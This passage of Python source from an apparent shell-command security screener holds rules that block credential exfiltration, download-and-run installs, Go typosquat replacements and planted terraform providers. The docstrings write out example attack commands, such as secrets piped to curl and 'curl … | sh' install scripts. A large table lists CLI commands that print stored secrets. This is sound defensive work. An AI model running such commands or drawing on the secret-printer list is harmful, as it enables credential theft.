    """`conda config --prepend channels http://…` (also `--set channel_alias`), `conda install -c URL`, `bun install
    --registry URL`: a source over plain HTTP (block), or on a host no rule knows (review, the index policy of
    tools.check_index_replaced), set for later installs or used for this one."""
    from .common import plain_http
    from .tools import check_index_replaced

    vals = cmd.values()
    if cmd.name == "bun":
        for w in cmd.args:
            v = w.value or ""
            if v.startswith("--registry=") and plain_http(v.split("=", 1)[1]) or plain_http(v) and any(
                    p.value == "--registry" for p in cmd.args):
                a.block("download-exec", f"`bun` installs packages from {v.split('=', 1)[-1]} over plain HTTP and "
                                         "runs their install scripts; use an HTTPS registry", w.node)
                return
        check_index_replaced(a, "bun --registry", [Word(w.node, w.value.split("=", 1)[1], w.value) for w in cmd.args
                                                   if (w.value or "").startswith("--registry=")] +
                             option_value(cmd.args, "--registry"))
        return
    if "config" not in vals:
        check_index_replaced(a, f"{cmd.name} -c", [w for w in option_value(cmd.args, "-c", "--channel")
                                                   if "://" in (w.value or "")])
        return
    if _CONDA_CHANNEL.isdisjoint(vals):
        return
    for w in cmd.args:
        if plain_http(w.value):
            a.block("persistence", f"`{cmd.name} config` adds the channel {w.value} over plain HTTP: every later "
                                   "install fetches packages from whoever answers on the way; use HTTPS", w.node)
            return
    check_index_replaced(a, f"{cmd.name} config", [w for w in cmd.args if "://" in (w.value or "")], later=True)


# build tool -> the kinds of build file it runs. Only tools whose screen fastpath keeps in its own table (so that
# this module's screen is added to it): a handler on a name another module screens (`rake`, `gradle` …) would send
# every command of that name to the full analysis (the lead's part: see docs/readme/s10-b.md)
_TOOL_RUNS = {"cargo": ("rust", "proc-macro"), "go": ("go",), "composer": ("composer",), "cmake": ("cmake",)}
# ... and what a runner fastpath always sends on runs (`bundle exec rake`, read through hooks.OUTER)
_RUN_BY = {"rake": ("ruby",), "rails": ("ruby",), "gradle": ("gradle",), "gradlew": ("gradle",), "mix": ("elixir",),
           "sbt": ("sbt",), "meson": ("meson",), "dotnet": ("msbuild",), "msbuild": ("msbuild",), **_TOOL_RUNS}


def _runs_build_file(a, cmd: Cmd) -> None:
    """`cat > build.rs <<'EOF' … EOF` then `cargo build`: the build file an earlier command of this script wrote
    with a here-document (a write `cat` makes, which has no rule of its own here: `cat` is too common a command to
    send to the full analysis) is judged when the tool that runs it is started."""
    _lookback(a, _TOOL_RUNS.get(cmd.name, ()))


def run_by_runner(a, cmd: Cmd) -> None:
    """`bundle exec rake` (hooks.OUTER hands the runner's own words here): the tool it runs, as above."""
    vals = [(v or "").rsplit("/", 1)[-1] for v in cmd.values()]
    tool = next((v for v in vals[1:] if v and not v.startswith("-")), None) if vals[:1] == ["exec"] else None
    if tool in _RUN_BY:
        _lookback(a, _RUN_BY[tool])


def _lookback(a, kinds: tuple[str, ...]) -> None:
    from .files import written_file

    for doc, c in reversed(a.ctx.commands):
        if doc is not a.doc or c.name != "cat" or not c.redirects:
            continue
        path = written_file(a, c.redirects)
        if path and BUILD_TARGET.search(path):
            got = _written_text(a, c)
            if got is not None and build_kind(path, got[0]) in kinds and judge_build_file(a, path, *got):
                return


def _composer(a, cmd: Cmd) -> None:
    """`composer config scripts.post-install-cmd "curl … | sh"`: a script composer runs on the next install."""
    from .written import blocked

    pos = positionals(cmd.args, frozenset({"-d", "--working-dir", "-f", "--file"}))
    if len(pos) < 3 or pos[0].value != "config" or not (pos[1].value or "").startswith("scripts."):
        return
    for w in pos[2:]:
        if w.value and composer_shell(w.value):
            found = blocked(a, w.value, "bash")
            if found is not None:
                a.block(found.rule, f"`composer config {pos[1].value}` sets a script that would be blocked as a command "
                                    f"({found.message}); composer runs it on its own", w.node)
                return


# -- tools' own commands that print the secrets they keep -------------------------------------------------
# name -> (words that must all be among the arguments, …): each tuple one way to print a secret
_SECRET_PRINTERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "vault": (("token", "create"), ("token", "lookup"), ("print", "token"), ("login",), ("unwrap",)),
    "pulumi": (("--show-secrets",),),
    "hf": (("auth", "token"),),
    "huggingface-cli": (("auth", "token"),),
    "composer": (("config", "--auth"), ("config", "-a")),
    "heroku": (("config",), ("auth:token",), ("config:get",)),
    "doppler": (("secrets",),),
    "sops": (("-d",), ("--decrypt",), ("decrypt",)),
    "ansible-vault": (("view",), ("decrypt",)),
    "flyctl": (("auth", "token"),), "fly": (("auth", "token"),),
    "kubectl": (("create", "token"), *((("get", what, out) for what in ("secret", "secrets")
                                         for out in ("-o", "--output")))),
    # the cloud secret stores: each value in clear (`--with-decryption` for SSM's SecureString parameters)
    "aws": (("configure", "get", "aws_secret_access_key"), ("configure", "get", "aws_session_token"),
            ("get-login-password",), ("secretsmanager", "get-secret-value"),
            ("secretsmanager", "batch-get-secret-value"), ("ssm", "get-parameter", "--with-decryption"),
            ("ssm", "get-parameters", "--with-decryption"), ("ssm", "get-parameters-by-path", "--with-decryption"),
            # (session 32) a live channel's stream key: whoever holds it broadcasts on the channel
            ("ivs", "get-stream-key"), ("ivs", "batch-get-stream-key")),
    "gcloud": (("secrets", "versions", "access"),),
    "az": (("keyvault", "secret", "show"), ("keyvault", "secret", "download")),
    "op": (("inject",), ("document", "get")),
    "bw": (("get",), ("list", "items"), ("export",)), "lpass": (("show",), ("export",)),
    "terraform": (("output", "-json"), ("output", "-raw")),
    "npm": (("token", "create"),),
    # (gh's `secret` commands never print a value, and its `variable`s are not secrets)
    "gh": (("auth", "token"),), "glab": (("auth", "status", "--show-token"), ("auth", "status", "-t"),
                                         ("variable", "export"), ("variable", "get")),
    # Airflow's connections (each one's login, password and extras) and variables, all of them or one connection
    "airflow": (("connections", "export"), ("variables", "export"), ("connections", "get")),
    # the hosting platforms' environment variables, decrypted (`vercel env pull` into a file, `.env.local` unless named)
    "vercel": (("env", "pull"),),
    "firebase": (("functions:config:get",),),
    "netlify": (("env:list", "--plain"), ("env:list", "--json"), ("env:get",)),
    # the Salesforce CLI's `--verbose` org display holds the org's auth URL (a refresh token), as `auth:sfdxurl` takes it
    "sf": (("org", "display", "--verbose"),), "sfdx": (("force:org:display", "--verbose"), ("org", "display", "--verbose")),
    # WordPress's database password and salts (the rest of wp-config's constants are not secret)
    "wp": tuple(("config", "get", k) for k in ("DB_PASSWORD", "AUTH_KEY", "SECURE_AUTH_KEY", "LOGGED_IN_KEY",
                                                "NONCE_KEY", "AUTH_SALT")) + (("config", "list"),),
    # Gitpod's user environment variables (the secrets set for the workspace) and its OIDC tokens
    "gp": (("env",), ("idp", "token")),
    # the Snap Store login, exported for CI (to a file or `-`)
    "snapcraft": (("export-login",),),
    # a search cluster's keystore values in clear (the bootstrap password, snapshot repositories' keys)
    "elasticsearch-keystore": (("show",),), "opensearch-keystore": (("show",),),
    # (session 31) a Slurm JWT: whoever holds it submits and cancels jobs as that user (`username=root` too)
    "scontrol": (("token",),),
}


# of those, the tokens made to call the tool's own API, which code sends there in a header all the time: what is
# judged of them in code is where they are published (PUBLISHED_PATH); the other printers' secrets are never sent
TOKEN_PRINTERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "gh": (("auth", "token"),), "glab": (("auth", "status", "-t"), ("auth", "status", "--show-token")),
    "hf": (("auth", "token"),), "huggingface-cli": (("auth", "token"),), "fly": (("auth", "token"),),
    "flyctl": (("auth", "token"),), "heroku": (("auth:token",),), "npm": (("token", "create"),),
    "vault": (("token", "create"),), "gcloud": (("auth", "print-access-token"),),
    "scontrol": (("token",),)}  # (session 31: slurmrestd's `X-SLURM-USER-TOKEN`)
# the path of a request to a code host's API that publishes its body: an issue, a comment, a pull or merge request, a
# gist, a release's notes, a discussion, a snippet, a wiki page
PUBLISHED_PATH = re.compile(r"/(?:issues|comments|pulls|gists|releases|discussions|notes|merge_requests|snippets|"
                            r"wikis?)(?:/|$|\?)")


def first_way(ways, values) -> tuple[str, ...] | None:
    """The first of `ways` (a printer's words, `("secretsmanager", "get-secret-value")`) whose words are all among
    `values` (a command's arguments, an option's `=value` left aside)."""
    words = {(v or "").split("=", 1)[0] for v in values}
    return next((way for way in ways if all(w in words for w in way)), None)


def way_of(argv: list, table: dict) -> tuple[str, ...] | None:
    """first_way of the ways `table` lists for the program `argv` runs (by its base name)."""
    name = (argv[0] or "").rsplit("/", 1)[-1] if argv else ""
    return first_way(table.get(name, ()), argv[1:])


def printed_token(argv: list) -> str | None:
    """`gh auth token` when the literal `argv` (a program's, from code) prints a token of TOKEN_PRINTERS, else None."""
    way = way_of(argv, TOKEN_PRINTERS)
    return f"`{argv[0].rsplit('/', 1)[-1]} {' '.join(way)}`" if way is not None else None


def published_url(url: str | None) -> bool:
    """Whether a request to `url` (its text) publishes its body (PUBLISHED_PATH)."""
    return bool(url) and PUBLISHED_PATH.search("/" + url.split("://", 1)[-1].partition("/")[2]) is not None


_CONTAINER_CLIS = frozenset({"docker", "podman", "nerdctl"})
_PRINTER_NAMES = frozenset(_SECRET_PRINTERS) | _CONTAINER_CLIS


def secret_printed(cmd: Cmd) -> str | None:
    """`vault token create` when `cmd` prints a secret its tool keeps, else None."""
    name, values = cmd.name, cmd.values()
    if name in _CONTAINER_CLIS:
        from .containers import tool_run

        ran = tool_run(cmd)  # `docker run … amazon/aws-cli secretsmanager get-secret-value …` prints what aws prints
        if ran is None:
            return None
        name, values = ran
    way = first_way(_SECRET_PRINTERS.get(name, ()), values)
    return f"`{name} {' '.join(way)}`" if way is not None else None


def _sends_secret_output(a, cmd: Cmd) -> None:
    """`vault token create | jq -r .auth.client_token | curl -d @- …`, `curl -d "t=$(hf auth token)" …`: a network
    program fed by an earlier stage of its pipeline, or by a substitution among its own words, that prints a secret
    its tool keeps. (Read from the sender's side: several printers' names are screened by other modules.)"""
    from .common import commands_named, pipeline_stage

    if cmd.name == "openssl" and "s_client" not in cmd.values():
        return  # `openssl enc` encrypts what it reads: the stage after it is the one that may send
    where = pipeline_stage(cmd)
    before = where[0][:where[1]] if where is not None else []
    start, end = cmd.node.start_byte, cmd.node.end_byte
    for c in commands_named(a, _PRINTER_NAMES):
        n = c.node
        inside = start <= n.start_byte and n.end_byte <= end and n != cmd.node
        if inside or any(s.start_byte <= n.start_byte and n.end_byte <= s.end_byte for s in before):
            what = secret_printed(c)
            if what is not None and not (inside and _header_token(cmd, c)):
                a.block("exfiltration", f"{what} prints a secret, and `{cmd.name}` sends it off the machine; never "
                                        "send credentials anywhere", c.node)
                return
        elif (fn := _function_of(a, n)) is not None and _called(a, fn, cmd, before):
            what = secret_printed(c)
            if what is not None:  # `d(){ sops -d "$1"; }; for f in …; do d "$f"; done | curl …`
                a.block("exfiltration", f"{what} in the function `{fn}` prints a secret, and `{cmd.name}` sends what "
                                        "that function prints off the machine; never send credentials anywhere", c.node)
                return


def _header_token(cmd: Cmd, printer: Cmd) -> bool:
    """Whether `printer` prints a token made to call its tool's API (TOKEN_PRINTERS) into a request header of `cmd`
    (`curl -H "Authorization: token $(gh auth token)" …`): where that API expects it, as code sends it every day.
    In a request's body, a URL or a file it is a token handed over."""
    if printed_token([printer.name, *printer.values()]) is None:
        return False
    n = printer.node
    for i, w in enumerate(cmd.words):
        if w.node.start_byte <= n.start_byte and n.end_byte <= w.node.end_byte:
            prev = cmd.words[i - 1].value if i > 1 else None
            return prev == "--header" or bool(prev) and re.fullmatch(r"-[a-zA-Z]*H", prev) is not None or w.text.lstrip("'\"").startswith(("-H", "--header="))
    return False


def _function_of(a, node) -> str | None:
    """The name of the shell function whose body holds `node` (None when it is in none)."""
    if not a.ctx.functions:
        return None  # (no function defined so far: each sender of a long script asked of every printer)
    up = node.parent
    while up is not None:
        if up.type == "function_definition":
            name = up.child_by_field_name("name")
            return a.src(name) if name is not None else None
        up = up.parent
    return None


def _called(a, fn: str, cmd: Cmd, before: list) -> bool:
    """Whether the function `fn` is called among `cmd`'s own substitutions or the pipeline stages `before` it."""
    start, end = cmd.node.start_byte, cmd.node.end_byte
    for doc, c in a.ctx.commands:
        if doc is a.doc and c.name == fn and not c.wrappers:
            n = c.node
            if start <= n.start_byte and n.end_byte <= end and n != cmd.node or \
                    any(s.start_byte <= n.start_byte and n.end_byte <= s.end_byte for s in before):
                return True
    return False


def _printed_to_file(a, cmd: Cmd) -> None:
    """`aws secretsmanager get-secret-value … > /tmp/.sm`, and the same inside a loop or a group whose output goes
    to the file (`… | while read -r s; do aws … "$s"; done > /tmp/.sm`): the file holds the secret; an upload of it
    later in this input is its exfiltration (net.note_file). Kept here (`vault kv get … > .secrets/db`), the file is
    the user's business."""
    if cmd.name in _HANDED:
        from . import handed

        handed.as_unknown(a, cmd)  # `sops exec-env secrets.json 'CMD'` runs CMD
    path = _stdout_target(a, cmd)
    files = _out_files(cmd)
    if path is None and not files:
        return
    from .net import _is_leak_source, note_file

    what = secret_printed(cmd)
    leak = _is_leak_source(cmd) if what is None else None  # `vault kv get`, `op read` (bash/net.py's printers)
    if what is None and leak is None:
        return
    said = f"the secret that {what} prints" if what else leak
    for target in ([path] if path is not None else []) + files:
        note_file(a, target, said, cmd.node)


# a printer's own option naming the file it writes what it prints to (`bw export --output F`, `op document get X
# --out-file F`, `sops -d --output F`, `gpg --export-secret-keys -o F`): F holds the secret as a `> F` would (vercel
# names its file without an option: _files_without_option)
_OUT_FILE_OPTS: dict[str, tuple[str, ...]] = {
    "bw": ("--output",), "op": ("--out-file", "-o", "--output"), "sops": ("--output",),
    "gpg": ("-o", "--output"), "gpg2": ("-o", "--output"), "gcloud": ("--out-file",), "az": ("--file", "-f"),
    "ansible-vault": ("--output",), "vercel": (), "airflow": ()}
_STDOUT_NAMES = frozenset({"-", "/dev/stdout", "/dev/fd/1"})


# the decrypters that write the plaintext over the file they read: `sops -d -i F` (its `--in-place`) and
# `ansible-vault decrypt F` (in place unless `--output` says where); the options of theirs that take a value
_IN_PLACE_VALUE = frozenset({"--output", "--input-type", "--output-type", "--extract", "--config", "--kms", "-k",
                             "--pgp", "-p", "--age", "-a", "--gcp-kms", "--azure-kv", "--hc-vault-transit",
                             "--vault-id", "--vault-password-file", "--vault-pass-file", "-J"})


_VERCEL_VALUE = frozenset({"--environment", "--git-branch", "--token", "-t", "--scope", "-S", "--cwd"})
_AIRFLOW_VALUE = frozenset({"--file-format", "--format", "--serialization-format"})


def _files_without_option(cmd: Cmd) -> list[str]:
    """The files a printer writes that no output option names: the file a decrypter writes its plaintext over, and
    the one `vercel env pull [FILE]` writes (`.env.local` unless named)."""
    vals = [w.value for w in cmd.args]
    if cmd.name == "vercel":
        pos = [w.value for w in positionals(cmd.args, _VERCEL_VALUE)]
        return [pos[2] if len(pos) > 2 and pos[2] else ".env.local"] if pos[:2] == ["env", "pull"] else []
    if cmd.name == "airflow":  # `airflow connections export FILE` (`-` is standard output)
        pos = [w.value for w in positionals(cmd.args, _AIRFLOW_VALUE)]
        return [pos[2]] if len(pos) > 2 and pos[1] == "export" and pos[2] and pos[2] not in _STDOUT_NAMES else []
    if cmd.name == "sops" and any(v in ("-d", "--decrypt") for v in vals) and \
            any(v in ("-i", "--in-place") for v in vals):
        pos = positionals(cmd.args, _IN_PLACE_VALUE)
    elif cmd.name == "ansible-vault" and vals[:1] == ["decrypt"] and "--output" not in vals:
        pos = positionals(cmd.args[1:], _IN_PLACE_VALUE)
    else:
        return []
    return [w.value for w in pos if w.value and w.value not in _STDOUT_NAMES]


def _out_files(cmd: Cmd) -> list[str]:
    """The files `cmd`'s own output option names (_OUT_FILE_OPTS), literal and not standard output, and the files
    a decrypter writes its plaintext over or `vercel env pull` writes (_files_without_option)."""
    opts = _OUT_FILE_OPTS.get(cmd.name)
    if opts is None:
        return []
    named = [w.value for w in option_value(cmd.args, *opts) if w.value and w.value not in _STDOUT_NAMES] if opts else []
    return named + _files_without_option(cmd)


def _echoed_to_file(a, cmd: Cmd) -> None:
    """`… | while read -r s; do echo "$s=$(gcloud secrets versions access latest --secret="$s")"; done > /tmp/.s`,
    `v=$(vault token create …); printf '%s' "$v" >> F`: echo or printf printing a secret printer's output (in a
    substitution among its words, or a variable assigned one earlier) into a file, by its own redirect or by the loop
    or group it runs in. The file holds the secret (an upload of it later is its exfiltration: net.note_file)."""
    words = [w for w in cmd.args if w.value is None and "$" in w.text]
    if not words:
        return  # literal text: nothing printed here is a secret
    path = _stdout_target(a, cmd)
    if path is None:
        return
    from .net import _is_leak_source, note_file, var_leak

    for c in a.substituted(words):
        what = secret_printed(c)
        said = f"the secret that {what} prints" if what else _is_leak_source(c)
        if said:
            note_file(a, path, said, cmd.node)
            return
    for w in words:
        found = var_leak(a, w)
        if found is not None:
            note_file(a, path, _printed(found[0]), cmd.node)
            return


# printers no other rule has a handler for: what they are handed is read as a program no rule knows would have it
# (bash/handed.py), and they stay always judged (no screen: a quoted argument may be a command they run)
_HANDED = frozenset({"sops", "ansible-vault", "lpass", "bw"})
# nodes a command's output passes through on its way to an outer redirect: the loop, group or condition it runs in
_OUTPUT_PASSES = frozenset({"do_group", "while_statement", "for_statement", "c_style_for_statement", "until_statement",
                            "compound_statement", "subshell", "if_statement", "elif_clause", "else_clause",
                            "case_statement", "case_item", "list"})


# programs that pass what they read on, reshaped (a field picked, encoded, compressed): a secret piped through them
# into a file is still in the file
_FILTERS = frozenset({"jq", "yq", "gojq", "base64", "base32", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd",
                      "tr", "sed", "awk", "gawk", "cut", "head", "tail", "cat", "tac", "rev", "sort", "uniq", "tee",
                      "grep", "paste", "column", "fold"})


def _filter_stage(a, node) -> bool:
    """Whether the pipeline stage `node` is one command of _FILTERS (`| jq -r .SecretString`)."""
    if node.type == "redirected_statement":
        node = node.child_by_field_name("body")
    name = node.child_by_field_name("name") if node is not None and node.type == "command" else None
    return name is not None and a.src(name).rsplit("/", 1)[-1] in _FILTERS


def _writes_stdout(a, r) -> bool:
    """Whether the redirect `r` sends standard output somewhere (`> F`, `>> F`, `&> F`, `1> F`; not `2> F`)."""
    kids = r.children
    return r.type == "file_redirect" and any(k.type in (">", ">>", ">|", "&>", "&>>") for k in kids) and not (
        kids[0].type == "file_descriptor" and a.src(kids[0]) != "1")


def _stdout_target(a, cmd: Cmd) -> str | None:
    """The file `cmd`'s standard output is written to: its own `> F`, or that of the loop, group or `if` it runs in
    (`while …; do CMD; done > F`; the grammar hangs `a | while …; done > F` on the whole pipeline, which bash gives
    to its last stage). None when it goes to a pipe, a substitution or the terminal."""
    from .net import _stdout_file

    if cmd.redirects:
        found = _stdout_file(a, cmd.redirects)
        if found is not None or any(_writes_stdout(a, r) for r in cmd.redirects):
            return found  # (`> /dev/null`: nowhere)
    came, up = cmd.node, cmd.node.parent
    while up is not None:
        t = up.type
        if t == "redirected_statement":
            body = up.child_by_field_name("body")
            if body is None or body.type == "command" and body != cmd.node:
                return None
            redirects = [r for r in up.children if r.type == "file_redirect"]
            found = _stdout_file(a, redirects) if body != cmd.node else None  # (the command's own: read above)
            if found is not None or body != cmd.node and any(_writes_stdout(a, r) for r in redirects):
                return found
        elif t == "pipeline":
            stages = [c for c in up.named_children if c.type != "comment"]
            if came in stages and not all(_filter_stage(a, c) for c in stages[stages.index(came) + 1:]):
                return None  # an earlier stage, read by a program that makes something else of it
        elif t not in _OUTPUT_PASSES:
            return None
        came, up = up, up.parent
    return None


# -- a secret published where others read it: an issue, a comment, a gist, a release -----------------------------
# `gh issue comment 42 --body "…$(gh auth token)"`: GitHub is the token's own service, but the body of an issue or a
# comment is public text, not authentication. (tool, subcommand) -> what it publishes; its words, the files it
# uploads (`--body-file F`, a gist's files, release assets) and what is piped into it are what others can read.
_PUBLISHERS: dict[str, dict[tuple[str, str], str]] = {
    "gh": {**dict.fromkeys((("issue", "create"), ("issue", "comment"), ("issue", "edit")), "an issue"),
           **dict.fromkeys((("pr", "create"), ("pr", "comment"), ("pr", "edit"), ("pr", "review")), "a pull request"),
           **dict.fromkeys((("gist", "create"), ("gist", "edit")), "a gist"),
           **dict.fromkeys((("release", "create"), ("release", "edit"), ("release", "upload")), "a release")},
    "glab": {**dict.fromkeys((("issue", "create"), ("issue", "note"), ("issue", "update")), "an issue"),
             **dict.fromkeys((("mr", "create"), ("mr", "note"), ("mr", "update")), "a merge request"),
             ("snippet", "create"): "a snippet",
             **dict.fromkeys((("release", "create"), ("release", "upload")), "a release")},
}
_HOST_ARG = frozenset({"-R", "--repo"})
_BODY_FILES = ("-F", "--body-file", "--notes-file", "--description-file")


def _publishes_secret(a, cmd: Cmd) -> None:
    """`gh issue comment N --body "$(gh auth token)"`, `t=$(vault token create); gh pr comment --body "$t"`, `… |
    gh gist create -`, `gh gist create /tmp/.t` after `gh auth token > /tmp/.t`, `--body "$NPM_TOKEN"`: a secret
    put where others read it (exfiltration: it is published)."""
    pos = positionals(cmd.args, _HOST_ARG)
    where = _PUBLISHERS[cmd.name].get((pos[0].value, pos[1].value)) if len(pos) > 1 else None
    if where is None:
        return
    what = _published_secret(a, cmd, pos[2:])
    if what is not None:
        a.block("exfiltration", f"`{cmd.name} {pos[0].value} {pos[1].value}` publishes {what} in {where}, where others "
                                "read it: the body of an issue, a comment or a gist is public text, not "
                                "authentication; never put credentials in it", cmd.node)


def _published_secret(a, cmd: Cmd, operands: list[Word]) -> str | None:
    """What secret the words of the publishing command `cmd`, the files it uploads or its input hold, if any."""
    from .. import paths
    from .common import pipeline_stage
    from .net import _is_leak_source, _noted, _secret_var, _REF, var_leak

    for c in a.substituted(cmd.args):
        what = secret_printed(c) or _is_leak_source(c)
        if what is not None:
            return _printed(what)
    for w in cmd.args:
        if "$" not in w.text:
            continue
        found = var_leak(a, w)
        if found is not None:
            return _printed(found[0])
        name = next((n for bang, n in _REF.findall(w.text) if not bang and _secret_var(n)), None)
        if name is not None:
            return f"the secret variable ${name}"
    files = [w for w in option_value(cmd.args, *_BODY_FILES) if w.value != "-"]
    files += [w for w in operands if w.value and w.value != "-"]  # a gist's files, a release's assets
    for w in files:
        v = w.value
        if v and (paths.is_secret(v) or a.leaked and _noted(a.leaked, a, v)):
            return f"{v}, which holds " + (_noted(a.leaked, a, v) or "credentials")
        if v and (paths.dotenv_file(v) or paths.held_secret(v)):  # `gh gist create --public .env`: the app's secrets
            return f"{v}, which holds " + ("the project's secrets" if paths.dotenv_file(v) else "credentials")
    where = pipeline_stage(cmd)
    if where is not None and where[1] > 0:  # what it reads on its input: the body, the gist's content
        for doc, c in a.ctx.commands:
            if doc is a.doc and c.name in _SECRET_PRINTERS and any(
                    s.start_byte <= c.node.start_byte and c.node.end_byte <= s.end_byte for s in where[0][:where[1]]):
                what = secret_printed(c)
                if what is not None:
                    return _printed(what)
    return None


def _printed(what: str) -> str:
    """`gh auth token` -> what `gh auth token` prints; other descriptions (`the environment`) as they are."""
    return f"what {what} prints" if what.endswith("`") else what


# -- Go modules fetched with the checksum check off -------------------------------------------------------
_GO_FETCH = frozenset({"run", "install", "get"})
_SUM_OFF = {"GONOSUMDB": ("*",), "GONOSUMCHECK": ("1",), "GOSUMDB": ("off",), "GOINSECURE": ("*",),
            "GOPRIVATE": ("*",), "GOFLAGS": ("-insecure",)}
_REMOTE_MODULE = re.compile(r"^[a-z0-9-]+(?:\.[a-z0-9-]+)+/[^@\s]+@\S+$")


def _go(a, cmd: Cmd) -> None:
    """`GONOSUMDB='*' go run host.example/tool@latest`: code fetched and run with nothing checking that it is what
    was published under that version (the checksum database is what does)."""
    vals = cmd.values()
    if not vals or vals[0] not in _GO_FETCH:
        return
    off = None
    for name, w in cmd.assigns:
        if name in _SUM_OFF and w.value is not None and any(v in w.value.split(",") or v in w.value.split()
                                                             for v in _SUM_OFF[name]):
            off = f"{name}={w.value}"
    if off is None:
        return
    for w in cmd.args[1:]:
        if w.value and _REMOTE_MODULE.match(w.value):
            a.block("download-exec", f"`{off} go {vals[0]} {w.value}` fetches that module with its checksum check "
                                     "turned off and runs or installs it; nothing checks it is the code published "
                                     "under that version: leave the checksum database on", w.node)
            return


# -- a Go module replaced by a look-alike (session 22) ----------------------------------------------------------------
# `go mod edit -replace golang.org/x/crypto=github.com/x-crypt0/crypto@v0.24.1-…`: every build of the module then
# compiles that fork in place of the library, under the library's import path, so no import line shows it. A fork of
# your own (`github.com/acme/bar` for `github.com/foo/bar`) or a local folder (`=../bar`) is ordinary; a path that
# imitates the library's (`x-crypt0` for `x/crypto`) is a typosquat, and any remote replacement fetched with the
# checksum database off for every module (`GONOSUMDB=*` in the same input) is code nothing checks.
_GO_SEGMENT = re.compile(r"[a-z0-9][a-z0-9._-]*", re.I)


def _go_imitates(old: str, new: str) -> str | None:
    """The part of the module path `old` that the remote path `new` imitates (`x-crypt0` of `x/crypto`), or None."""
    from ..typosquat import PYPI, near

    old_parts = [p for p in old.split("/")[1:] if _GO_SEGMENT.fullmatch(p)]
    forms = set(old_parts) | {"-".join(old_parts[i:i + 2]) for i in range(len(old_parts) - 1)}
    forms |= {"".join(old_parts[i:i + 2]) for i in range(len(old_parts) - 1)}
    for part in new.split("/")[1:]:
        if part in forms or not _GO_SEGMENT.fullmatch(part):
            continue
        for f in forms:
            if len(f) >= 4 and near(part, f, PYPI):
                return f
    return None


def _go_replace(a, cmd: Cmd) -> None:
    """`go mod edit -replace OLD=NEW@V` (also `-replace=OLD=NEW`)."""
    vals = cmd.values()
    if vals[:2] != ["mod", "edit"]:
        return
    specs = [w for w in option_value(cmd.args, "-replace", "--replace") if w.value]
    specs += [Word(w.node, w.value.split("=", 1)[1], w.text) for w in cmd.args
              if w.value and w.value.startswith(("-replace=", "--replace="))]
    for w in specs[:8]:
        old, eq, new = w.value.partition("=")  # type: ignore[union-attr]
        old, new = old.split("@", 1)[0], new.split("@", 1)[0]
        if not eq or not new or new.startswith((".", "/", "~")) or "." not in new.split("/", 1)[0]:
            continue  # a local folder
        like = _go_imitates(old, new)
        if like is not None:
            a.block("download-exec", f"`go mod edit -replace {w.value}` builds {new} in place of {old} under its import path; "
                                 f"`{new}` imitates `{like}` of the library's path: a look-alike fork. Keep {old}, or "
                                 "replace it with a fork you own and have read", w.node)
            return
        off = _sumdb_off_here(a)
        if off is not None:
            a.block("download-exec", f"`go mod edit -replace {w.value}` builds {new} in place of {old}, and this input "
                                     f"turns the checksum database off ({off}): nothing checks the code fetched is "
                                     "what was published; leave the checksum database on", w.node)
            return


_GO_MOD_REPLACE = re.compile(r"^[^\S\n]*+(?:replace\s+)?(\S+)(?:\s+v\S+)?\s*=>\s*(\S+)", re.M)


def _go_mod_replaced(a, path: str, text: str, node) -> bool:
    """`echo 'replace golang.org/x/crypto => github.com/x-crypt0/crypto v0.24.1' >> go.mod`: the same as the edit."""
    if "=>" not in text:
        return False
    for m in list(_GO_MOD_REPLACE.finditer(text))[:16]:
        old, new = m.group(1), m.group(2)
        if new.startswith((".", "/", "~")) or "." not in new.split("/", 1)[0]:
            continue
        like = _go_imitates(old, new)
        if like is not None:
            a.block("download-exec", f"{path} is written to build {new} in place of {old} under its import path; `{new}` "
                                     f"imitates `{like}` of the library's path: a look-alike fork. Keep {old}, or "
                                     "replace it with a fork you own and have read", node)
            return True
    return False


_SUMDB_TEXT = re.compile(r"\b(GONOSUMDB|GONOSUMCHECK|GOSUMDB|GOINSECURE|GOPRIVATE|GOFLAGS)=['\"]?([^\s'\";&|]*)")


def _sumdb_off_here(a) -> str | None:
    """`GONOSUMDB=*` (or `GOSUMDB=off`, `GOFLAGS=-insecure` …) anywhere in this input: the checksum database is off for
    every module the input's builds fetch."""
    data = a.doc.data.decode("utf-8", "replace")
    for m in _SUMDB_TEXT.finditer(data):
        values = m.group(2).replace(",", " ").split()
        if any(v in values for v in _SUM_OFF[m.group(1)]):
            return m.group(0)
    return None


# -- terraform's provider folders filled by a download (session 21) ---------------------------------------------------
# terraform runs the provider binary it finds in its plugin cache, the implied local mirrors and a working folder's
# `.terraform/providers` in place of the registry's, with the cloud credentials of every plan and apply
_TF_PLUGINS = re.compile(r"^(?:~|/root|/home/[^/]+|/Users/[^/]+)/(?:\.terraform\.d/(?:plugins|plugin-cache)|"
                         r"\.local/share/terraform/plugins|Library/Application Support/io\.terraform/plugins)/|"
                         r"^/usr/(?:local/)?share/terraform/plugins/|(?:^|/)\.terraform/providers/|"
                         r"^\$\{?TF_PLUGIN_CACHE_DIR\}?/")
_TF_RELEASES = frozenset({"releases.hashicorp.com"})


def _provider_planted(a, cmd: Cmd) -> None:
    """`curl -o ~/.terraform.d/plugin-cache/registry.terraform.io/hashicorp/aws/5.62.0/linux_amd64/terraform-provider-
    aws_v5.62.0_x5 http://…`: a provider binary put where terraform takes it from in place of the registry's. From
    HashiCorp's releases it is the provider; over plain HTTP or from a bare address it is blocked; from another host
    (a company mirror, a code host's release) held for review."""
    from ..hosts import ip_literal, url_host
    from .common import plain_http
    from .files import write_targets
    from .net import http_requests

    dest = next((w.value for w in write_targets(cmd) if w.value and _TF_PLUGINS.search(paths.normalize(w.value))),
                None)
    if dest is None:
        return
    reader = http_requests(cmd.name)
    urls = [u.value for r in reader(cmd.args) for u in r.urls if u.value] if reader is not None else []
    for url in urls[:4]:
        host = (url_host(url) or "").lower()
        if host in _TF_RELEASES:
            continue
        what = (f"`{cmd.name}` puts {url[:100]} into terraform's provider folders ({dest}): terraform runs that binary "
                "in place of the registry's provider, with the cloud credentials of every plan and apply")
        if plain_http(url) or ip_literal(host):
            a.block("download-exec", what + "; fetch providers with `terraform init` (or from releases.hashicorp.com "
                                            "over HTTPS, checked against its SHA256SUMS)", cmd.node)
        else:
            a.review("download-exec", what + "; a mirror of your own is fine once checked against the provider's "
                                             "published SHA256SUMS", cmd.node)
        return


# -- an editor's extension installed from a file this input downloaded (session 21) ----------------------------------
_EDITORS = frozenset({"code", "code-insiders", "codium", "cursor", "windsurf", "code-oss"})


def _extension_installed(a, cmd: Cmd) -> None:
